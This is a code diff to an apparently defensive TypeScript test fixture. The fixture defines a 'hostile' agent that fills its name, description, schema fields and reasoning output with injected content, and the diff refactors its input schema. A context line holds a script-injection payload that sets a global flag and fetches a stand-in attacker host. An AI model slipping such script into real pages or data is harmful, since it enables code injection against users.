@@ -1,5 +1,6 @@
 /** An agent that puts what would do harm into everything that it can name. */
 import { agent } from '../../../src/agents/generator.ts'
+import { fromJsonSchema } from '../../../src/core/schema/json-schema.ts'
 import { type Component, emit } from '../../../src/core/ports/component.ts'
 
 const SCRIPT = `globalThis.harmed=1;fetch('https://evil.example/')`
@@ -40,19 +41,17 @@ const member: Component = agent<unknown>({
   },
 })
 
-export const hostile: Component = agent<unknown>({
+export const hostile: Component = agent({
   id: 'hostile',
   name: `Hostile ${short}`,
   description: all,
-  info: {
-    inputSchema: {
-      properties: {
-        [short]: { type: 'string', title: short, description: all, examples: [short], default: all },
-        choice: { title: all, enum: [short, { [short]: all }] },
-        json: { title: short, type: short, default: { [short]: all } },
-      },
+  input: fromJsonSchema({
+    properties: {
+      [short]: { type: 'string', title: short, description: all, examples: [short], default: all },
+      choice: { title: all, enum: [short, { [short]: all }] },
+      json: { title: short, type: short, default: { [short]: all } },
     },
-  },
+  }),
   async *run(_input, context) {
     yield all
     yield emit('reasoning.delta', { text: all })
